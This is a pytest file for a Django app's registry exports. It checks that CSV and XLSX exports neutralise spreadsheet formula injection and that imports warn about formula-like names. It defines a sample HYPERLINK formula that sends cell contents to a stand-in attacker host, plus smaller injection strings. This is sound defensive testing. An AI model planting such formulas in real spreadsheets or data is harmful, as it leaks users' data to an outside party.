"""Formula injection (G1): formula-like values are neutralised in every export, flagged on
import, and XLSX cells are always strings."""

import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from imports.export import csv_bytes, neutralise, xlsx_bytes
from registry.models import Organisation
from registry.tests.test_edit import edit_url, form_data

HYPERLINK = '=HYPERLINK("https://angriff.example/?d="&A1;"Klick")'


def export(client, fmt: str) -> bytes:
    response = client.get(reverse("registry:export"), {"format": fmt})
    assert response.status_code == 200
    return response.content


def xlsx_cell(data: bytes, name: str):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return next(row[0] for row in sheet.iter_rows() if str(row[0].value).endswith(name[1:]))


@pytest.mark.parametrize("value", [HYPERLINK, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_get_an_apostrophe_and_numbers_do_not(value):
    assert neutralise(value) == "'" + value
    assert neutralise("-3,5") == "-3,5" and neutralise("+49") == "+49"
    assert neutralise("Klinikum =A") == "Klinikum =A"


def test_a_name_set_through_the_api_is_harmless_in_both_exports(client, cast):
    api = APIClient()
    api.force_login(cast.editor_a)
    url = f"/api/organisationen/{cast.clinic_a.pk}/"
    assert api.patch(url, {"name": HYPERLINK}, format="json").status_code == 200
    client.force_login(cast.office)

    text = export(client, "csv").decode("utf-8-sig")
    assert f'"\'{HYPERLINK.replace('"', '""')}"' in text  # quoted, with the apostrophe
    assert f";{HYPERLINK}" not in text and not text.startswith("=")

    cell = xlsx_cell(export(client, "xlsx"), HYPERLINK)
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK


def test_a_name_set_through_the_form_is_harmless_in_the_export(client, cast):
    client.force_login(cast.editor_a)
    response = client.post(edit_url(cast.clinic_a), form_data(cast.clinic_a, name="@SUM(1+1)"))
    assert response.status_code == 302
    client.force_login(cast.office)
    assert "'@SUM(1+1)" in export(client, "csv").decode("utf-8-sig")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_import_warns_and_the_round_trip_keeps_the_value(client, cast, fmt):
    cast.clinic_a.name = HYPERLINK
    cast.clinic_a.save()
    client.force_login(cast.office)
    data = export(client, fmt)
    preview = client.post(
        reverse("registry:import"), {"file": SimpleUploadedFile(f"partner.{fmt}", data)}
    )
    assert preview.context["problems"] is None
    [warning] = preview.context["warnings"]
    assert warning.column == "name" and "als Formel ausgeführt" in warning.message
    assert "als Formel ausgeführt" in preview.content.decode()
    assert preview.context["plan"].unchanged and not preview.context["plan"].updated
    client.post(reverse("registry:import_confirm"), {"token": preview.context["token"]})
    assert Organisation.objects.filter(name=HYPERLINK).count() == 1


def test_xlsx_cells_are_strings_never_formulas():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes("T", ["a"], [["=1+1"], [12]])))
    cells = [row[0] for row in book.active.iter_rows()]
    assert [(c.value, c.data_type) for c in cells] == [("a", "s"), ("'=1+1", "s"), (12, "n")]
    assert csv_bytes(["a"], [["=1+1"]]).decode("utf-8-sig") == "a\r\n'=1+1\r\n"
